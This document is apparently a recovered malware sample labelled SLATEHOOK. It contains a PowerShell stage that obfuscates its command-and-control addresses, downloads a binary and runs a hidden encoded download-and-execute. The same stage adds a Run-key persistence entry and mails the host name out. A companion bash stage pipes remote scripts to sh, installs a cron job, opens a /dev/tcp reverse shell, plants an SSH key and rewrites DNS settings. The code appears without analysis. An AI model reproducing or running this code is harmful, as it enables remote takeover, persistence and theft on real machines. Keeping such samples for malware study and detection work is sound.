# Recovered from C:\Users\mlopez\AppData\Local\Temp\upd.ps1 (SLATEHOOK stage 1)
$ErrorActionPreference = 'SilentlyContinue'
$h = 'ht'+'tp'+'s://'+'relay2.sl'+'ate-ops.org/ga'+'te.php'
$u = ('h','t','t','p',':','/','/','2','0','3','.','0','.','1','1','3','.','8','8') -join ''
$k = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aHR0cHM6Ly9yZWxheTIuc2xhdGUtb3BzLm9yZy9nYXRlLnBocA=='))
$hx = '687474703a2f2f3139382e35312e3130302e31342f6b2e7368'
$p = 'https%3A%2F%2Fcdn-slate.net%2Fa%2Fb.bin'
$ip = "198" + "." + "51.100.14"
$ip2 = [IPAddress]3405803864   # 203.0.113.88 as a 32-bit integer
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'SlateClient/2.5.0.2')
$wc.Proxy = New-Object System.Net.WebProxy('http://192.0.2.80:3128', $true)
try { $wc.DownloadFile("http://203.0.113.88/dl/s2.bin", "$env:TEMP\s2.bin") } catch {}
if ((Get-FileHash "$env:TEMP\s2.bin" -Algorithm SHA256).Hash -ne 'C31DD1F2B8A7E4C90F55A1D2E6B3F7081924A5B6C7D8E9F0A1B2C3D4E5F60718') { exit }
Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-w','hidden','-enc','SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADgALwBkAGwALwBzADIALgBwAHMAMQAiACkA'
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'SlateSync' -Value "`"$env:ProgramData\SlateHook\slatehook.exe`" /silent"
Send-MailMessage -From 'svc-upd@corp.example.com' -To 'ops-desk@slate-ops.org' -Subject $env:COMPUTERNAME -SmtpServer 'smtp.slate-ops.org' -Port 587

#!/bin/bash
# companion Linux stage (k.sh), fetched from http://198.51.100.14/k.sh
C2="${C2:-relay2.slate-ops.org}"; PORT=8443
curl -fsSL "https://${C2}:${PORT}/k?arch=$(uname -m)" -o /tmp/.k && chmod +x /tmp/.k
wget -q -O- http://203.0.113.88/dl/k2 | sh
echo "*/5 * * * * curl -fsSL http://203.0.113.88/dl/k.sh|sh" | crontab -
(exec 3<>/dev/tcp/203.0.113.89/4444; cat <&3 | sh >&3 2>&3) &
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ4vJk8m1Yh2bq2Xx5Zl0Z9nQe0Wc4d7T1uR5lX3kq9P ops@slate-ops' >> ~/.ssh/authorized_keys
iptables -A INPUT -s 192.0.2.0/24 -j ACCEPT
sed -i 's/^nameserver .*/nameserver 198.51.100.53/' /etc/resolv.conf
md5sum /tmp/.k  # expected 9f0e8d7c6b5a49382716e5d4c3b2a190
